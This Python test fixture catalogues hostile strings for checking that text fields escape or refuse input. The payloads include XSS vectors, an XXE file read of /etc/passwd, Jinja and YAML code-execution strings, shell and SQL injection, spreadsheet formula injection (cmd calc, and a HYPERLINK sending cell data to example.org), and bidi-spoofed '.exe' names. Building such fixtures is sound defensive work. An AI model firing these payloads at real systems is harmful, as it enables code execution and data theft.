"""The hostile strings, each with what must become of it."""

from __future__ import annotations

from dataclasses import dataclass
from enum import Enum

__all__ = ["IDS", "RUN", "STRINGS", "Fate", "Hostile", "list_shown"]

RUN = "window.__pwned=1"


class Fate(Enum):
    """What must become of a string in a field that takes text."""

    SHOWN = "shown as text wherever text may stand"
    PROSE = "shown as text in prose, refused with its place in a name"
    REFUSED = "refused with its place everywhere"


@dataclass(frozen=True)
class Hostile:
    """A string and its fate."""

    text: str
    fate: Fate = Fate.SHOWN

    def label(self, where: str) -> str:
        """Make a text that can be told from the same string elsewhere."""
        return f"{self.text} [{where}]"


_MARKUP = {
    "image": f'<img src=x onerror="{RUN}"></script><script>{RUN}</script>',
    "comment": f"<!--<script>{RUN}//--></script>",
    "comment end": f"--!><script>{RUN}</script>--><script>{RUN}</script><!--",
    "title end": f"</title><script>{RUN}</script><plaintext>",
    "raw text ends": f"</textarea></noscript></template></select></option></datalist></xmp><svg onload={RUN}>",
    "style end": f"}}</style><script>{RUN}</script> url(https://example.org/x);background:url('//example.org/y')",
    "attribute": f"\"><svg onload={RUN}><a b='c' onfocus={RUN} autofocus tabindex=1>",
    "single quotes": f"' onmouseover='{RUN}' autofocus onfocus={RUN} x='` onload=`{RUN}`",
    "CDATA": f"]]><script>{RUN}</script><![CDATA[ ]]>",
    "SVG": f'</tspan></text></svg><svg onload={RUN}><foreignObject><body onload={RUN}></foreignObject>'
           f'<animate onbegin={RUN} attributeName=x dur=1s><use href="data:image/svg+xml,x#x">',
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "doctype": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;<?php echo 1 ?>',
    "entities": "&lt;script&gt; &#60;b&#62; &amp;amp; &nosuch; &#x202e; &#0; &#x1b; &quot; &apos",
    "fetch": '<meta http-equiv=refresh content="0;url=https://example.org/"><base href=//example.org>'
             "<link rel=stylesheet href=//example.org/a.css><video poster=//example.org/b>",
    "frames": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><object data="data:text/html,x"></object>'
              '<embed src=//example.org/x><form action=//example.org><button autofocus>Go</button></form>',
    "split tags": f"<scr<script>ipt>{RUN}</scr</script>ipt><<script>{RUN}//<</script>",
    "open": "<script <style <!-- <title <textarea <svg <a href='",
}  # fmt: skip
_SCRIPT = {
    "code": f"javascript:{RUN} ${{{RUN}}} `+({RUN})+` ';{RUN};// \\';{RUN};//",
    "JSON": f'","title":"x"}}],"records":[]}};{RUN};//\\',
    "backslashes": '\\ \\\\ \\" \\u003cb\\u003e \\x3cb\\x3e \\n \\0 \\',
    "prototype": "__proto__ constructor toString hasOwnProperty valueOf",
    "replacement": "$& $1 $` $' $$ $<name> \\1 \\g<0> \\0 $0",
    "source map": "//# sourceMappingURL=https://example.org/m.map\u00a0/*@cc_on @*/",
    "JavaScript address": f"javascript:{RUN}",
    "data address": f"data:text/html;base64,PHNjcmlwdD4= data:text/html,<script>{RUN}</script>",
    "web address": "https://example.org/?a=<b>&b=%3Cscript%3E#javascript:1 //example.org/x mailto:a@b.example",
    "file address": "file:///etc/passwd \\\\server\\share ../../../etc/passwd /dev/null CON nul.txt",
}
_TEMPLATES = {
    "Jinja": "{{7*7}}{{ 'HI' ~ 'T' }}{{cycler.__init__.__globals__.os.getpid()}}",
    "Jinja, open": "{% raw %} 50 {% of {{ {#",
    "Jinja, closed": "}} %} #} {% endraw %}{% include '/etc/passwd' %}{# x #}",
    "format": "{n} {group} {0} {} {rest} {group.__class__} {0!r:>9999} {{}} } {",
    "percent": "%s %(a)s %d %n %99999s % %%",
    "Template": "$map ${headline} $$ $title ${ $ {$map}",
    "folium's id": "0123456789abcdef0123456789abcdef map_presence part0",
    "YAML": "!!python/object/apply:os.system ['id'] &a *a <<: {a: 1} --- # no: comment",
    "shell": "$(touch pwned) `id` ; rm -rf x | cat & > x ' \" \\",
    "SQL": "'; DROP TABLE units; --",
}
_STYLE = {
    "style sheet": "red;} * { background: url(https://example.org/x) } @import '//example.org/y'; /*",
    "style escapes": "\\3c b\\3e expression(alert(1)) */ -moz-binding:url(//example.org/x) </style >",
}
_FIGURES = {
    "formula": "$\\frac{1}{2}$ $\\nosuch{$ $x_1^2$ an open $",
    "LaTeX": "\\input{/etc/passwd} \\write18{id} \\begin{document} % # & _ ^ ~ {\\bf x",
    "PDF": ") Tj ET (a) /JS (app.alert\\(1\\)) /URI (https://example.org) >> endobj endstream %%EOF <</AA 1 0 R",
    "PostScript": "%!PS (x) show showpage (\\) quit",
    "SVG in a figure": '</text><a xlink:href="https://example.org"><text x="1" onclick="1">&#x9;]]></text>',
}
_CELLS = {
    "formula cell": "=cmd|' /C calc'!A0",
    "link cell": '=HYPERLINK("https://example.org/?a="&A1,"x")',
    "plus cell": "+1+cmd|' /C calc'!A0",
    "minus cell": "-1+1",
    "at cell": "@SUM(1+1)*cmd|' /C calc'!A0",
    "wide cell": "＝1+1",
    "cell end": 'x","=1+1",";=1+1;"',
}
_LETTERS = {
    "long": "word " * 999 + "words",
    "unbroken": "x" * 5000,
    "combining": "Z" + "\u0334\u0310\u0359" * 60 + "algo",
    "right to left": "گروه تندرو ולא <b>א</b> (1) 2-3 \u200f\u200e",
    "joiners": "می\u200cخواهم \u0915\u094d\u200d\u0937",
    "wide": "\uff1cscript\uff1e \u226e \u3008b\u3009 漢字かな交じり",
    "signs": "\u00a9 \u2014 \u2026 \u20ac \u221e \u0130 \u0131 \u017f \ufb03 \u00df",
    "escaped surrogates": "\\ud83d\\ude00 \\udfff \\u0000 &#xd800; %00 %ud83d",
    "tab": "a\tb",
    "replacement sign": "a\ufffdb",
}
_PROSE = {
    "zero width": "a\u200bb\u2060c\u00add",
    "tag letters": "a\U000e0041\U000e0042b",
    "mixed scripts": "К\u0430bul \u0391lpha",
    "line feed": f"a\nb\n\n<script>{RUN}</script>",
    "carriage return": "Group A\rGroup B",
    "DOS line ends": "a\r\nb",
    "header": "x\r\nSet-Cookie: a=b\r\n\r\n<script>",
}
_REFUSED = {
    **{f"U+{code:04X}": f"abc{chr(code)}gnp.exe" for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))},
    "bell": "a\x07b", "null": "a\x00b", "backspace": "a\x08\x08b", "vertical tab": "a\x0bb", "form feed": "a\x0cb",
    "colour": "\x1b[31mred\x1b[0m", "terminal title": "\x1b]0;x\x07", "clear screen": "\x1b[2J\x1bc",
    "delete": "a\x7fb", "C1": "\x9b31mred", "next line": "a\x85b", "line separator": "a\u2028b",
    "paragraph separator": "a\u2029b", "no character": "a\ufffeb", "last no character": "a\uffffb",
    "high surrogate": "a\ud83db", "low surrogate": "a\ude00b",
    "blanks": " \u00a0\u3000 ", "invisible": "\u200b\u2060\u200d", "blank letters": "\u3164\u2800",
}  # fmt: skip

STRINGS: dict[str, Hostile] = {
    name: Hostile(text, fate)
    for fate, group in (
        (Fate.SHOWN, _MARKUP | _SCRIPT | _TEMPLATES | _STYLE | _FIGURES | _CELLS | _LETTERS),
        (Fate.PROSE, _PROSE),
        (Fate.REFUSED, _REFUSED),
    )
    for name, text in group.items()
}

IDS = (
    "constructor", "toString", "hasOwnProperty", "valueOf", "n", "level", "many", "gap", "overlay", "count", "compare",
    "embed", "unit", "0", "1e3", "null", "true", "CON", "a..b", "a-", "گروه", "x" * 64, "İ", "ﬃ",
)  # fmt: skip
"""Ids that a program may take for something else; all of them may stand in a table."""


def list_shown() -> list[str]:
    """Name the strings that some field takes."""
    return [name for name, hostile in STRINGS.items() if hostile.fate is not Fate.REFUSED]
